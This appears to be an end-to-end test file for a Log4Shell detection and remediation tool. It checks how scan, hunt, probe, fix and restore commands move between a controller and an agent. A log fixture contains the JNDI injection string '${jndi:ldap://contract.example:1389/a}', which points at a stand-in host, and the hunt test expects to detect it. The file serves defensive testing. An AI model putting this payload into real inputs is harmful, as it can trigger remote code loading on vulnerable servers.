import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import { AgentHost } from './support/agent-process';
import { ensureBuilt } from './support/build';
import { ControllerProcess } from './support/controller-process';
import { writeBrokenJars, writeWar } from './support/fixtures';
import {
  compileProbeService,
  type JavaService,
  LOG4J_CORE,
  startJavaService,
} from './support/java-service';
import { eventually } from './support/ports';
import { cancelVerification } from './support/verification';

// The contract between the two ends, with no fake on either side: the built controller
// (SQLite) and the bundled agent process (its real CommandExecutor and AgentDaemon over real
// gRPC), every kind (scan, hunt, probe, fix, restore: add each new kind here; quarantine and
// release change this machine's firewall: e2e/containment.spec.ts runs them in network
// namespaces) through every state a command can end in.

jest.setTimeout(180_000);

interface CommandDto {
  id: string;
  kind: string;
  state: string;
  message: string | null;
  totalChunks: number | null;
  deliveredTo?: string;
  timestamps: Record<string, string>;
}

const FINAL = ['succeeded', 'failed', 'expired', 'cancelled', 'verified'];

describe('command contract: real agent executor against the real controller', () => {
  let work: string;
  let controller: ControllerProcess;
  let agent: AgentHost;
  let hostId: string;
  let srv: string;
  let bulk: string;
  let javaService: JavaService | undefined;
  let logs: string;

  beforeAll(async () => {
    ensureBuilt();
    work = await mkdtemp(path.join(os.tmpdir(), 'e2e-contract-'));
    controller = await ControllerProcess.start({ type: 'sqlite', dir: work });
    agent = new AgentHost('contract-1', path.join(work, 'contract-1'));
    hostId = await agent.enrollWithNewToken(controller, 'e2e contract');
    srv = path.join(agent.dir, 'srv');
    await writeWar(path.join(srv, 'shop/app.war'), '2.14.1');
    bulk = path.join(agent.dir, 'bulk');
    await writeBrokenJars(bulk, 20_000);
    logs = path.join(agent.dir, 'logs');
    await mkdir(logs, { recursive: true });
    await writeFile(path.join(logs, 'app.log'), 'ok\nua=${jndi:ldap://contract.example:1389/a}\n');
  });

  afterAll(async () => {
    await javaService?.stop();
    await agent?.stop();
    await controller?.stop();
    if (work) await rm(work, { recursive: true, force: true });
  });

  const get = (id: string) => controller.api<CommandDto>('GET', `/commands/${id}`);
  const scan = (body: object) =>
    controller.api<CommandDto>('POST', `/hosts/${hostId}/scans`, { threads: 1, ...body });
  const ended = (id: string) =>
    eventually(`command ${id} to end`, async () => {
      const command = await get(id);
      return FINAL.includes(command.state) ? command : undefined;
    });
  const agentLogged = (id: string, msg: string) =>
    agent.log
      .split('\n')
      .some((l) => l.includes(`"commandId":"${id}"`) && l.includes(`"msg":"${msg}"`));

  it('scan: queued -> delivered -> started -> succeeded', async () => {
    const command = await scan({ paths: [srv] });
    expect(command).toMatchObject({ kind: 'scan', state: 'queued', deliveredTo: 'not-connected' });
    agent.startDaemon();
    const done = await ended(command.id);
    expect(done).toMatchObject({ state: 'succeeded', totalChunks: 1 });
    expect(Object.keys(done.timestamps).sort()).toEqual(
      ['queued', 'delivered', 'started', 'succeeded'].sort(),
    );
    const pushed = await scan({ paths: [srv] });
    expect(pushed.deliveredTo).toBe('local');
    expect(await ended(pushed.id)).toMatchObject({ state: 'succeeded' });
  });

  it('scan: failed, with the reason, when the agent cannot run it', async () => {
    const command = await scan({ paths: [srv], exclude: ['/x/[[:bogus:]]'] });
    const done = await ended(command.id);
    expect(done).toMatchObject({ state: 'failed' });
    expect(done.message).toMatch(/Invalid exclude pattern.*bogus/);
  });

  it('scan: cancelled through REST while it runs, and the agent stops it', async () => {
    const command = await scan({ paths: [bulk] });
    await eventually(
      `the agent to start ${command.id}`,
      () => (agentLogged(command.id, 'scan started') ? true : undefined),
      60_000,
      5,
    );
    agent.pause(); // the scan waits, mid-way, for the cancel
    const cancelled = await controller.api<CommandDto>('POST', `/commands/${command.id}/cancel`);
    expect(cancelled.state).toBe('cancelled');
    agent.resume();
    await eventually(`the agent to cancel ${command.id}`, () =>
      agentLogged(command.id, 'command cancelled') ? true : undefined,
    );
    // The agent reports CANCELLED, which the controller takes: the stream stays (a controller
    // that refused the state ended it, and the agent re-sent the report on every new stream).
    expect(await get(command.id)).toMatchObject({ state: 'cancelled' });
    await eventually(`the agent to report ${command.id} cancelled`, () =>
      agentLogged(command.id, 'command cancelled') ? true : undefined,
    );
    const after = await scan({ paths: [srv] });
    expect(await ended(after.id)).toMatchObject({ state: 'succeeded' });
    expect(agent.log).not.toContain('control stream ended');
    expect(agentLogged(command.id, 'scan finished')).toBe(false);
  });

  it('scan: cancelled through REST while queued, and never run', async () => {
    await agent.stop();
    const command = await scan({ paths: [srv] });
    expect(command.deliveredTo).toBe('not-connected');
    const cancelled = await controller.api<CommandDto>('POST', `/commands/${command.id}/cancel`);
    expect(cancelled).toMatchObject({ state: 'cancelled' });
    agent.log = '';
    agent.startDaemon();
    const after = await scan({ paths: [srv] });
    expect(await ended(after.id)).toMatchObject({ state: 'succeeded' });
    expect(agent.log).not.toContain(command.id);
    expect(await get(command.id)).toMatchObject({ state: 'cancelled' });
  });

  it('scan: expired when its expiry passed before it could be delivered', async () => {
    await agent.stop();
    const command = await scan({ paths: [srv] });
    // An expiry an hour ago (the API takes at least 60 s): written where the controller keeps it.
    const db = new Database(path.join(work, 'controller.sqlite'));
    try {
      db.prepare('UPDATE commands SET expires_at = ? WHERE id = ?').run(
        new Date(Date.now() - 3_600_000).toISOString(),
        command.id,
      );
    } finally {
      db.close();
    }
    agent.log = '';
    agent.startDaemon();
    // Expired by the controller before delivery: never sent, never run.
    expect(await ended(command.id)).toMatchObject({ state: 'expired' });
    expect(agentLogged(command.id, 'scan started')).toBe(false);
    expect(agent.log).not.toContain('control stream ended');
  });

  const hunt = (body: object) => controller.api<CommandDto>('POST', `/hosts/${hostId}/hunts`, body);
  /** Writes a stored command's row while the agent is away (what the API would refuse). */
  const tamper = (sql: string, ...params: unknown[]) => {
    const db = new Database(path.join(work, 'controller.sqlite'));
    try {
      db.prepare(sql).run(...params);
    } finally {
      db.close();
    }
  };

  it('hunt: queued -> delivered -> started -> succeeded, its hit stored', async () => {
    // The daemon runs since the scan tests.
    const command = await hunt({ paths: [logs] });
    expect(command).toMatchObject({ kind: 'hunt' });
    const done = await ended(command.id);
    expect(done).toMatchObject({ state: 'succeeded', totalChunks: 1 });
    expect(Object.keys(done.timestamps).sort()).toEqual(
      ['queued', 'delivered', 'started', 'succeeded'].sort(),
    );
    const hits = await eventually(`the hit of ${command.id}`, async () => {
      const page = await controller.api<{
        total: number;
        items: Array<{ line: number; decoded: string }>;
      }>('GET', `/hunt-hits?commandId=${command.id}`);
      return page.total > 0 ? page.items : undefined;
    });
    expect(hits).toEqual([
      expect.objectContaining({ line: 2, decoded: '${jndi:ldap://contract.example:1389/a}' }),
    ]);
  });

  it('hunt: failed, with the reason, when the agent refuses its parameters', async () => {
    await agent.stop();
    const command = await hunt({ paths: [logs] });
    tamper(
      'UPDATE commands SET payload = ? WHERE id = ?',
      JSON.stringify({ paths: ['relative/logs'] }),
      command.id,
    );
    agent.startDaemon();
    const done = await ended(command.id);
    expect(done).toMatchObject({ state: 'failed' });
    expect(done.message).toContain('path "relative/logs" is not absolute');
  });

  it('hunt: cancelled through REST while queued, and never run', async () => {
    await agent.stop();
    const command = await hunt({ paths: [logs] });
    expect(command.deliveredTo).toBe('not-connected');
    expect(
      await controller.api<CommandDto>('POST', `/commands/${command.id}/cancel`),
    ).toMatchObject({ state: 'cancelled' });
    agent.log = '';
    agent.startDaemon();
    const after = await hunt({ paths: [logs] });
    expect(await ended(after.id)).toMatchObject({ state: 'succeeded' });
    expect(agent.log).not.toContain(command.id);
  });

  it('hunt: expired when its expiry passed before it could be delivered', async () => {
    await agent.stop();
    const command = await hunt({ paths: [logs] });
    tamper(
      'UPDATE commands SET expires_at = ? WHERE id = ?',
      new Date(Date.now() - 3_600_000).toISOString(),
      command.id,
    );
    agent.log = '';
    agent.startDaemon();
    expect(await ended(command.id)).toMatchObject({ state: 'expired' });
    expect(agentLogged(command.id, 'hunt started')).toBe(false);
  });

  const probe = (body: object) =>
    controller.api<CommandDto>('POST', `/hosts/${hostId}/probe`, body);

  it('probe: queued -> delivered -> started -> succeeded, its results ingested', async () => {
    await agent.stop(); // whatever the scan cases left: a daemon of its own
    agent.startDaemon();
    // No JVM listens on port 1: the probe runs, sends nothing, and says so.
    const command = await probe({ targets: [{ port: 1 }] });
    expect(command).toMatchObject({ kind: 'probe' });
    const done = await ended(command.id);
    expect(done).toMatchObject({ state: 'succeeded', totalChunks: 1 });
    expect(Object.keys(done.timestamps)).toEqual(
      expect.arrayContaining(['queued', 'started', 'succeeded']),
    );
    const probes = await eventually('the probe results', async () => {
      const p = await controller.api<{
        runs: Array<{ commandId: string; verdict: string; errors: string[] }>;
      }>('GET', `/hosts/${hostId}/probes`);
      return p.runs.find((r) => r.commandId === command.id && r.verdict !== '');
    });
    expect(probes).toMatchObject({
      verdict: 'inconclusive',
      errors: ['port 1: no JVM listens on it here; not probed'],
    });
  });

  it('probe: failed, with the reason, when the agent refuses a target that is not its own', async () => {
    await agent.stop();
    const command = await probe({ targets: [{ address: '127.0.0.1', port: 1 }] });
    // A controller that stored a foreign target (the API refuses one): the agent checks again.
    tamper(
      'UPDATE commands SET payload = ? WHERE id = ?',
      JSON.stringify({ targets: [{ address: '192.0.2.55', port: 1 }] }),
      command.id,
    );
    agent.log = '';
    agent.startDaemon();
    const done = await ended(command.id);
    expect(done).toMatchObject({ state: 'failed' });
    expect(done.message).toContain(
      'probe.targets[0].address 192.0.2.55 is not an address of this host',
    );
  });

  it('probe: cancelled through REST while it runs, and the agent stops it', async () => {
    compileProbeService(work);
    javaService = await startJavaService(work, LOG4J_CORE.fixed, 'User-Agent');
    // One request a second: 15 requests, long enough to cancel mid-way.
    const command = await probe({ targets: [{ port: javaService.port }], ratePerSecond: 1 });
    await eventually(
      `the agent to start ${command.id}`,
      () => (agentLogged(command.id, 'probe started') ? true : undefined),
      60_000,
      5,
    );
    // The controller tells the agent only about a command it knows was delivered.
    await eventually(`the controller to see ${command.id} started`, async () =>
      (await get(command.id)).state === 'started' ? true : undefined,
    );
    const cancelled = await controller.api<CommandDto>('POST', `/commands/${command.id}/cancel`);
    expect(cancelled.state).toBe('cancelled');
    await eventually(`the agent to cancel ${command.id}`, () =>
      agentLogged(command.id, 'command cancelled') ? true : undefined,
    );
    expect(await get(command.id)).toMatchObject({ state: 'cancelled' });
    expect(agentLogged(command.id, 'probe done: no callback')).toBe(false);
  });

  it('probe: cancelled while queued, and never run; expired before delivery, and never run', async () => {
    await agent.stop();
    const queued = await probe({ targets: [{ port: 1 }] });
    await controller.api<CommandDto>('POST', `/commands/${queued.id}/cancel`);
    const late = await probe({ targets: [{ port: 1 }] });
    tamper(
      'UPDATE commands SET expires_at = ? WHERE id = ?',
      new Date(Date.now() - 3_600_000).toISOString(),
      late.id,
    );
    agent.log = '';
    agent.startDaemon();
    expect(await ended(late.id)).toMatchObject({ state: 'expired' });
    const after = await probe({ targets: [{ port: 1 }] });
    expect(await ended(after.id)).toMatchObject({ state: 'succeeded' });
    expect(agent.log).not.toContain(queued.id);
    expect(agentLogged(late.id, 'probe started')).toBe(false);
    expect(await get(queued.id)).toMatchObject({ state: 'cancelled' });
  });

  const remediate = (body: object) =>
    controller.api<CommandDto>('POST', `/hosts/${hostId}/remediate`, body);
  it('fix and restore: queued -> delivered -> started -> succeeded, one result chunk each', async () => {
    const war = path.join(agent.dir, 'fix/app.war');
    await writeWar(war, '2.14.1');
    const fix = await remediate({ paths: [war] });
    expect(fix).toMatchObject({ kind: 'fix', state: 'queued' });
    const fixed = await ended(fix.id);
    expect(fixed).toMatchObject({ state: 'succeeded', totalChunks: 1 });
    expect(Object.keys(fixed.timestamps)).toEqual(
      expect.arrayContaining(['queued', 'delivered', 'started', 'succeeded']),
    );
    await cancelVerification(controller, hostId);
    const restore = await controller.api<CommandDto>('POST', `/hosts/${hostId}/restore`, {
      paths: [war],
      fixCommandId: fix.id,
    });
    expect(await ended(restore.id)).toMatchObject({
      kind: 'restore',
      state: 'succeeded',
      totalChunks: 1,
    });
    await cancelVerification(controller, hostId);
  });

  it('fix: failed, with the reason, when the agent cannot run it', async () => {
    const command = await remediate({ paths: ['relative/app.war'] });
    const done = await ended(command.id);
    expect(done).toMatchObject({ kind: 'fix', state: 'failed' });
    expect(done.message).toMatch(/fix.paths\[0\].*not absolute/);
  });

  it('fix: expired when its expiry passed before it could be delivered, never run', async () => {
    await agent.stop();
    const command = await remediate({ paths: [path.join(agent.dir, 'fix/app.war')] });
    const db = new Database(path.join(work, 'controller.sqlite'));
    try {
      db.prepare('UPDATE commands SET expires_at = ? WHERE id = ?').run(
        new Date(Date.now() - 3_600_000).toISOString(),
        command.id,
      );
    } finally {
      db.close();
    }
    agent.log = '';
    agent.startDaemon();
    expect(await ended(command.id)).toMatchObject({ state: 'expired' });
    expect(agent.log).not.toContain(command.id);
  });
});
